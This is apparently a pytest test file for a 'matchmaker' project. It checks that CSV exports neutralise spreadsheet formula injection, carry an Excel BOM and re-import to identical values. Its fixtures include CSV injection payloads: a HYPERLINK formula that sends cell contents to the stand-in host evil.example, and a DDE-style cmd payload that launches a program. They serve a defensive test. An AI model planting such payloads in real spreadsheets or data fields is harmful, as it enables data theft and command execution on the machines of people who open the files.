"""CSV exports cannot run as spreadsheet formulas (OWASP CSV injection), read right in Excel,
and import back to the very same values."""

from __future__ import annotations

import csv
import json
from dataclasses import replace

from matchmaker.interchange import export_network, import_document, read_files
from matchmaker.interchange.export import network_to_json
from matchmaker.interchange.formula_cells import FORMULA_STARTS
from matchmaker.store import open_store
from matchmaker.teams import Pool, form_teams, plan_to_csv
from tests.teams_pools import mixed_pool, rules

RISKY_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "'=already guarded",
    "''",
    "'t Hooft",
    "Malõšev",
    "Київ Хаб",
]


def _cells(path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def _import_names(store, tmp_path):
    actors = [
        {"id": f"r{i}", "kind": "ngo", "name": name, "country": "EE", "sectors": ["=1+1", "+x", "ok"]}
        for i, name in enumerate(RISKY_NAMES)
    ]
    actors.append({"id": "=cmd", "kind": "ngo", "name": "Tab\tin the middle", "country": "UA"})
    path = tmp_path / "risky.json"
    path.write_text(json.dumps({"format": "sandbox-matchmaker/1", "actors": actors}), encoding="utf-8")
    import_document(store.engine, read_files([path], store.resolver()))


def test_no_exported_cell_starts_a_formula_and_excel_gets_a_bom(sqlite_store, tmp_path):
    _import_names(sqlite_store, tmp_path)
    (actors, *_rest) = export_network(sqlite_store.load_network(), "csv", tmp_path / "csv")
    assert actors.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = _cells(actors)[1:]
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    names = {row[2] for row in rows}
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in names
    assert {"'@SUM(A1:A9)", "'-2+3", "''=already guarded", "'''", "'t Hooft", "Malõšev"} <= names
    assert "'=cmd" in {row[0] for row in rows}


def test_a_csv_export_imports_back_to_the_same_values(sqlite_store, tmp_path):
    _import_names(sqlite_store, tmp_path)
    original = network_to_json(sqlite_store.load_network())
    export_network(sqlite_store.load_network(), "csv", tmp_path / "csv")
    fresh = open_store(str(tmp_path / "fresh.sqlite"))
    import_document(fresh.engine, read_files([tmp_path / "csv"], fresh.resolver()))
    assert network_to_json(fresh.load_network()) == original
    assert {a.name for a in fresh.load_network().actors} >= set(RISKY_NAMES)
    fresh.engine.dispose()


def test_a_hand_written_guard_apostrophe_is_read_as_excel_does(sqlite_store, tmp_path):
    path = tmp_path / "actors.csv"
    path.write_text("id,kind,name,country\nh1,ngo,'=1+2,EE\nh2,ngo,'plain,EE\n", encoding="utf-8")
    import_document(sqlite_store.engine, read_files([path], sqlite_store.resolver()))
    assert {a.name for a in sqlite_store.load_network().actors} == {"=1+2", "'plain"}


def test_the_team_csv_is_guarded_too(tmp_path):
    first, *others = mixed_pool(8, 4).participants
    pool = Pool.of([replace(first, name="=HYPERLINK(1)"), *others])
    plan = form_teams(pool, rules())
    path = plan_to_csv(plan, tmp_path / "teams.csv", pool)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = _cells(path)
    assert rows[0][0] == "team"
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    assert "'=HYPERLINK(1)" in {row[4] for row in rows}
